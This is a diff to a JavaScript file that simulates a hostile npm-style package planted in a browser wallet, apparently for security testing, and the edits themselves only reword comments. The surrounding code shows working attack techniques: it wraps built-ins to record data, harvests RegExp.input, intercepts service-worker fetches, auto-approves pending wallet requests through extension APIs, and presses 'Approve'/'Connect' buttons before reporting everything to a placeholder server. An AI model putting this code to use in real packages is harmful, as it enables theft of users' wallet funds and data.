@@ -1,7 +1,8 @@
 // @ts-nocheck: it stands for a stranger's code.
 /**
- * The code that a hostile package adds to its own. When its package is evaluated, it wraps every built-in function that it
- * can replace, tries the browser's API, and intercepts requests of the worker. It sends all that it finds to a server.
+ * The code that a hostile package adds to its own. During evaluation, it wraps every built-in function that it can
+ * replace, tries the browser's API, and intercepts requests of the worker. It sends everything that it finds to a
+ * server.
  */
 const PLANTED = '__PLANTED__'.split(' ')
 const RECORDER = '__RECORDER__'
@@ -10,13 +11,13 @@ const { stringify } = JSON
 const { fetch: send, setTimeout: later, Proxy: Wrapper } = globalThis
 const isView = ArrayBuffer.isView
 
-/** Bounds on one record, and on the records of one function: the wallet must stay quick enough to be used. */
+/** Limits on one record, and on the records per function, so that the wallet stays fast enough to be used. */
 const MAX_TEXT = 4_096
 const MAX_BYTES = 256
 const MAX_RECORDS = 3_000
 /** Milliseconds between two reports. */
 const PAUSE = 250
-/** How often the buttons of a window are pressed. After that, and once the window is loaded again, they are left alone. */
+/** How often the buttons of a window are pressed. After that, and once the window is reloaded, they are left alone. */
 const PRESSES = 3
 const PRESSED = 'planted'
 
@@ -28,7 +29,7 @@ const tryTo = act => {
   }
 }
 
-/** A value as text, to a depth. Bytes are hex. */
+/** Converts a value to text, up to a depth. Bytes become hex. */
 const describe = (value, depth) => {
   if (typeof value === 'string') return value.length > MAX_TEXT ? '' : value
   if (typeof value !== 'object' || value === null) return ''
@@ -49,7 +50,7 @@ const describe = (value, depth) => {
   return text
 }
 
-/** Everything reachable that has built-in functions, with the path to it. */
+/** Returns every reachable object with built-in functions, with the path to it. */
 const findPlaces = () => {
   const seen = new Set()
   const places = []
@@ -115,7 +116,7 @@ const startPlant = name => {
     }
   }
 
-  /** Speaks with the wallet as one of its pages does, and approves whatever waits. */
+  /** Calls the background as a page of the wallet would, and approves all pending requests. */
   const speak = async (way, api) => {
     if (!api) return
     if (api.storage) {
@@ -137,7 +138,7 @@ const startPlant = name => {
   const reach = () => {
     for (const way of ['chrome', 'browser']) speak(way, globalThis[way]).catch(() => undefined)
     if (typeof document === 'undefined') {
-      // A worker that answers for the wallet's pages can serve pages of its own in their place.
+      // A worker that handles requests for the wallet's pages could serve other pages instead.
       const intercept = ({ request }) => post({ reached: [`fetch event of ${new URL(request.url).pathname}`] })
       tryTo(() => addEventListener('fetch', intercept))
       tryTo(() => EventTarget.prototype.addEventListener.call(globalThis, 'fetch', intercept))
@@ -152,7 +153,7 @@ const startPlant = name => {
     frame.remove()
   }
 
-  /** Presses what approves: with events of its own, and through the functions that are kept on the button. */
+  /** Presses the approving buttons, with synthetic events and by calling the handlers stored on the button. */
   const press = () => {
     for (const button of document.querySelectorAll('button')) {
       if (!/^(Approve|Connect)$/.test(button.textContent.trim())) continue
@@ -183,7 +184,7 @@ const startPlant = name => {
   const report = () => {
     isInside = true
     if (typeof document !== 'undefined' && presses < PRESSES) tryTo(press)
-    // What the last match of a regular expression was made on, whoever made it.
+    // The text of the most recent regular expression match in any script.
     record('RegExp.input', [RegExp.input, RegExp.leftContext, RegExp.rightContext])
     if (heard.length > 0) post({ heard: heard.splice(0) })
     isInside = false
@@ -200,7 +201,7 @@ const startPlant = name => {
 
 const started = new Set()
 
-/** Called by every module of a package as it is evaluated. */
+/** Every module of a package calls this during its evaluation. */
 export const plant = name => {
   if (!PLANTED.includes(name) || started.has(name)) return
   started.add(name)
